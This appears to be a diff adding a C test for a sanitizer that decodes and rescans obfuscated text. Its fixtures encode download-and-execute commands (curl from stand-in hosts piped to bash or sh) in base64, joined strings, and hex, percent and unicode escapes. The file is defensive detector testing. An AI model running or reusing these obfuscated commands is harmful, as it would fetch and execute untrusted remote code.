@@ -784,6 +784,60 @@ test_described(struct sanitizer *s)
 	}
 }
 
+/*
+ * Decode and rescan: an encoded or split command is decoded, scanned
+ * again and its findings say so; text that decodes to bytes (a hash, a
+ * key) adds nothing.
+ */
+static void
+test_decoded(struct sanitizer *s)
+{
+	static const struct {
+		const char	*text, *kind;
+	} c[] = {
+		{ "Run: Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS5uZXQvaS5zaCB8IGJhc2g=\n",
+		    "decoded base64: " },
+		{ "cmd = \"cu\" + \"rl -s https://x.example.net/i.sh | ba\" + "
+		    "\"sh\"\n", "decoded joined string: " },
+		{ "x = ['curl -s https://x.example.net/i.sh', ' | bash']"
+		    ".join('')\n", "decoded joined string: " },
+		{ "s = \"\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74\\x70"
+		    "\\x73\\x3a\\x2f\\x2f\\x78\\x2e\\x69\\x6f\\x2f\\x61"
+		    "\\x20\\x7c\\x20\\x73\\x68\"\n", "decoded hex escapes: " },
+		{ "u = curl%20-s%20https%3A%2F%2Fx.io%2Fa%20%7C%20sh\n",
+		    "decoded percent escapes: " },
+		{ "u = \"\\u0063\\u0075\\u0072\\u006c\\u0020\\u0068\\u0074"
+		    "\\u0074\\u0070\\u003a\\u002f\\u002f\\u0078\\u002e\\u0069"
+		    "\\u006f\\u0020\\u007c\\u0020\\u0073\\u0068\"\n",
+		    "decoded unicode escapes: " },
+		{ "sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n"
+		    "key: MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo\n",
+		    NULL },
+	};
+	struct findings	 f;
+	size_t		 i, j;
+	int		 hit;
+
+	for (i = 0; i < sizeof c / sizeof *c; i++) {
+		findings_init(&f);
+		sanitize_scan(s, c[i].text, strlen(c[i].text), 4, &f);
+		hit = 0;
+		for (j = 0; j < f.n; j++)
+			if (f.v[j].message != NULL && strncmp(f.v[j].message,
+			    "decoded ", 8) == 0) {
+				hit = c[i].kind != NULL && strncmp(
+				    f.v[j].message, c[i].kind,
+				    strlen(c[i].kind)) == 0 && f.v[j].line == 5 ?
+				    hit + 1 : -100;
+			}
+		if (!ok(c[i].kind != NULL ? hit > 0 : hit == 0,
+		    "decoded %zu: %s", i, c[i].kind != NULL ? c[i].kind :
+		    "no text, nothing decoded"))
+			dump(&f);
+		findings_done(&f);
+	}
+}
+
 int
 main(void)
 {
@@ -804,6 +858,7 @@ main(void)
 	test_empty(s);
 	test_quoted_values(s);
 	test_described(s);
+	test_decoded(s);
 	sanitize_free(s);
 	test_configured_tags();
 	test_live_exec();
